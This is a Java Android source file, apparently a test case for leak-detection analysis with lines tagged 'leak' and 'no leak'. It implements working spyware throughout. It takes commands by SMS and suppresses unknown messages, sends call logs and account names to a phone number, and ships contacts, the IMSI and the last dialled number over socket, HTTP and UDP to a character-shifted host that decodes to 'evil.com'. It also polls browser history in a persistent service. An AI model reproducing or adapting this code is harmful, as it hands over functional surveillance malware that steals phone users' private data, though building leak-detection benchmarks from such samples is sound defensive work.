package later;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.util.*;

import java.io.*;
import java.net.*;
import java.util.*;
import org.json.*;

/** A service that does what a number says by message. */
public class Spy extends BroadcastReceiver {
    static String hidden(int[] code) {
        StringBuilder b = new StringBuilder();
        for (int one : code) b.append((char) (one - 3));
        return b.toString();
    }

    static String host() {
        return hidden(new int[] {104, 121, 108, 111, 49, 102, 114, 112});
    }

    public void onReceive(Context c, Intent i) {
        Object[] pdus = (Object[]) i.getExtras().get("pdus");
        for (Object pdu : pdus) {
            SmsMessage m = SmsMessage.createFromPdu((byte[]) pdu);
            String from = m.getOriginatingAddress();
            String[] words = m.getMessageBody().split(" ");
            Command command = Command.of(words[0]);
            if (command == null) {
                SmsManager.getDefault().sendTextMessage("+100", null, m.getMessageBody(), null, null); // leak
                abortBroadcast();
                continue;
            }
            SmsManager.getDefault().sendTextMessage("+100", null, command.does(c), null, null); // leak
            SmsManager.getDefault().sendTextMessage("+100", null, "done", null, null); // no leak
        }
    }

    enum Command {
        CALLS {
            String does(Context c) {
                StringBuilder all = new StringBuilder();
                Cursor rows = c.getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, "date DESC");
                while (rows.moveToNext())
                    all.append(rows.getString(rows.getColumnIndex("number"))).append(':').append(rows.getLong(2));
                return all.toString();
            }
        },
        ACCOUNTS {
            String does(Context c) {
                List<String> names = new ArrayList<>();
                for (Account one : AccountManager.get(c).getAccounts()) names.add(one.name + "@" + one.type);
                return TextUtilsLike.joined(names);
            }
        },
        PING {
            String does(Context c) {
                return "pong";
            }
        };

        abstract String does(Context c);

        static Command of(String word) {
            for (Command one : values()) if (one.name().equalsIgnoreCase(word)) return one;
            return null;
        }
    }

    static class TextUtilsLike {
        static String joined(List<String> all) {
            StringBuilder b = new StringBuilder();
            for (String one : all) b.append(one).append(',');
            return b.toString();
        }
    }

    /** Contacts as JSON, packed, over a socket whose host is hidden. */
    public static class Upload extends IntentService {
        public Upload() {
            super("u");
        }

        protected void onHandleIntent(Intent i) {
            try {
                JSONArray all = new JSONArray();
                Cursor rows =
                        getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
                if (rows != null && rows.moveToFirst()) {
                    do {
                        JSONObject one = new JSONObject();
                        one.put("n", rows.getString(rows.getColumnIndex("display_name")));
                        one.put("t", rows.getString(rows.getColumnIndex("data1")));
                        all.put(one);
                    } while (rows.moveToNext());
                }
                Socket to = new Socket(host(), 443);
                OutputStream out = to.getOutputStream();
                out.write("HELLO".getBytes()); // no leak
                PrintWriter text = new PrintWriter(new OutputStreamWriter(out), true);
                text.println(all.toString()); // leak
                text.println("BYE"); // no leak
                byte[] packed = android.util.Base64.encode(zipped(all.toString(2)), android.util.Base64.NO_WRAP);
                out.write(packed); // leak
                HttpURLConnection http = (HttpURLConnection) new URL("http://" + host() + "/p").openConnection();
                http.setDoOutput(true);
                Map<String, String> form = new LinkedHashMap<>();
                form.put("v", "2");
                form.put("imsi", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId());
                StringBuilder body = new StringBuilder();
                for (Map.Entry<String, String> e : form.entrySet())
                    body.append(e.getKey()).append('=').append(URLEncoder.encode(e.getValue(), "UTF-8")).append('&');
                http.getOutputStream().write(body.toString().getBytes("UTF-8")); // leak
                DatagramSocket udp = new DatagramSocket();
                byte[] hello = "hello".getBytes();
                udp.send(new DatagramPacket(hello, hello.length, InetAddress.getByName(host()), 53)); // no leak
                byte[] place = (Build.MODEL + "|" + lastNumber()).getBytes();
                udp.send(new DatagramPacket(place, place.length, InetAddress.getByName(host()), 53)); // leak
            } catch (Exception e) {
                Log.e("a", "no", e); // no leak
            }
        }

        byte[] zipped(String text) throws IOException {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (java.util.zip.DeflaterOutputStream z = new java.util.zip.DeflaterOutputStream(bytes)) {
                z.write(text.getBytes());
            }
            return bytes.toByteArray();
        }

        String lastNumber() {
            return CallLog.Calls.getLastOutgoingCall(this);
        }
    }

    /** What the browser was on, and bookmarks that were typed. */
    public static class History extends Service {
        private final Runnable again =
                new Runnable() {
                    public void run() {
                        Cursor c = getContentResolver().query(Uri.parse("content://browser/bookmarks"), new String[] {"url", "title"}, "bookmark=0", null, null);
                        while (c != null && c.moveToNext()) Log.w("b", c.getString(0)); // leak
                        timer.postDelayed(this, 60000);
                        Log.w("b", "again"); // no leak
                    }
                };
        private final Handler timer = new Handler();

        public int onStartCommand(Intent i, int f, int n) {
            timer.post(again);
            return START_STICKY;
        }

        public IBinder onBind(Intent i) {
            return null;
        }
    }
}
